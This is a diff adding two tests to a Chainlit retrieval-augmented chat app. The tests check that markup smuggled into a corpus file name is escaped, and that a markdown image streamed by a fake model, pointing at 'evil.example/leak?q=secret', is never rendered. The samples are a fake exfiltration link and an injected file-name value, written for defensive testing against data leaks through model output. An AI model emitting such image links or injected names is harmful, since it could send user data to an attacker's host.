@@ -318,3 +318,38 @@ async def test_chart_is_updated_after_each_answer(app_module: ModuleType, contex
     assert len({e["id"] for e in sent}) == 1 and len(sent) >= 2  # one element, sent then updated in place
     points = sent[-1]["props"]["points"]
     assert [p["n"] for p in points] == [1, 2] and points[0]["runs"][0]["model"] == "phi-4-mini"
+
+
+async def test_names_from_the_folder_are_escaped_where_they_land(
+    app_module: ModuleType, context: Mock, server: FakeOpenAIServer, tmp_path: Path
+) -> None:
+    import chainlit as cl
+
+    from rag import markdown as md
+
+    corpus = _corpus_copy(tmp_path, app_module, server)
+    evil = "x`![i](leak.png)`<img src=y>.md"  # a file name cannot hold a slash; a relative URL still loads
+    (corpus / evil).write_text("# Zebra\n\nZebra crossings are striped in black and white.")
+    await app_module.answer(cl.Message(content="/docs"))
+    listing = context.send_step.call_args_list[-1].args[0]["output"]
+    assert f"| {md.code(evil)} |" in listing
+    assert "![i](" not in listing.replace(md.code(evil), "")  # nowhere outside its code span
+    await app_module.answer(cl.Message(content="Which crossings are striped in black and white?"))
+    retrieve = next(c.args[0]["output"] for c in context.send_step.call_args_list
+                    if str(c.args[0].get("output", "")).startswith("query: "))
+    assert f"1. {md.code(evil + ' › Zebra')} · score" in retrieve
+
+
+async def test_an_image_in_an_answer_is_never_rendered(app_module: ModuleType, context: Mock, server: FakeOpenAIServer) -> None:
+    import chainlit as cl
+
+    server.replies["phi-4-mini"] = Reply(content=["Ollama uses 11434 [1]. !", "[logo](http://evil.example/leak?q=secret) ",
+                                                  "and [docs](https://ollama.com) for more, as the guide says [1]."])
+    _use(app_module, base_url=server.url)
+    await app_module.start()
+    await app_module.answer(cl.Message(content="Which port does Ollama use?"))
+    streamed = [context.stream_start.call_args.args[0]["output"]] + [c.kwargs["token"] for c in context.send_token.call_args_list]
+    assert "![" not in "".join(streamed)  # not even for a moment while streaming
+    content = _final_content(context)
+    assert "![" not in content and "[image not loaded: logo] (<http://evil.example/leak?q=secret>)" in content
+    assert "docs (<https://ollama.com>)" in content  # a link shows where it goes
